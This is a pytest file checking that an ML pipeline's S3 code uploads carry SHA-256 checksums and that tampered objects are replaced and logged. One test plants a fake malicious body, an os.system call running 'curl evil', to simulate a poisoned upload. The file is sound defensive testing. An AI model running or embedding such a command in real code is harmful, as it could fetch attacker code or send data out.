"""Content-addressed code is verified: uploads carry S3's SHA-256 checksum, an object whose bytes are not the
ones its key names is replaced (and logged), never trusted."""

from __future__ import annotations

import base64
import hashlib

import pytest

from pipelines import run_pipeline
from pipelines.aws import session_for_account
from pipelines.train import pipeline as train_pipeline


@pytest.fixture
def dev(dev_config, dev_session, dev_data_bucket):
    """The dev config and an S3 client of the dev account, its data bucket created."""
    return dev_config, dev_session.client("s3")


def checksum(body: bytes) -> str:
    return base64.b64encode(hashlib.sha256(body).digest()).decode()


def stored(s3, asset) -> tuple[bytes, str | None]:
    head = s3.head_object(Bucket=asset.bucket, Key=asset.key, ChecksumMode="ENABLED")
    return s3.get_object(Bucket=asset.bucket, Key=asset.key)["Body"].read(), head.get("ChecksumSHA256")


def test_uploads_carry_the_sha256_checksum_the_key_names(dev):
    config, s3 = dev
    assets = train_pipeline.code_assets(config)
    run_pipeline.upload_code(session_for_account(config.account_id, config.aws_region), config, assets)
    for asset in assets:
        body, sha256 = stored(s3, asset)
        assert body == asset.path.read_bytes()
        assert sha256 == checksum(body)
        assert base64.b64decode(sha256).hex() in asset.key


@pytest.mark.parametrize("tampered_checksum", [True, False], ids=["with-checksum", "without-checksum"])
def test_an_object_that_differs_from_its_key_is_replaced_and_logged(dev, caplog, tampered_checksum):
    config, s3 = dev
    asset = train_pipeline.code_assets(config)[0]
    evil = b"import os; os.system('curl evil')\n"
    extra = {"ChecksumAlgorithm": "SHA256"} if tampered_checksum else {}
    s3.put_object(Bucket=asset.bucket, Key=asset.key, Body=evil, **extra)

    with caplog.at_level("WARNING", logger="run-pipeline"):
        run_pipeline.upload_code(session_for_account(config.account_id, config.aws_region), config, [asset])
    body, sha256 = stored(s3, asset)
    assert body == asset.path.read_bytes()
    assert sha256 == checksum(body)
    assert [record.getMessage() for record in caplog.records] == [
        f"replacing {asset.s3_uri}: its SHA-256 checksum {checksum(evil) if tampered_checksum else '(none)'} is not "
        f"the one its key names ({hashlib.sha256(body).hexdigest()})"]


def test_an_intact_object_is_kept(dev, caplog):
    config, s3 = dev
    asset = train_pipeline.code_assets(config)[0]
    session = session_for_account(config.account_id, config.aws_region)
    run_pipeline.upload_code(session, config, [asset])
    first = s3.head_object(Bucket=asset.bucket, Key=asset.key)["LastModified"]
    with caplog.at_level("INFO", logger="run-pipeline"):
        run_pipeline.upload_code(session, config, [asset])
    assert s3.head_object(Bucket=asset.bucket, Key=asset.key)["LastModified"] == first
    assert [record.getMessage() for record in caplog.records] == [f"code already uploaded: {asset.s3_uri}"]
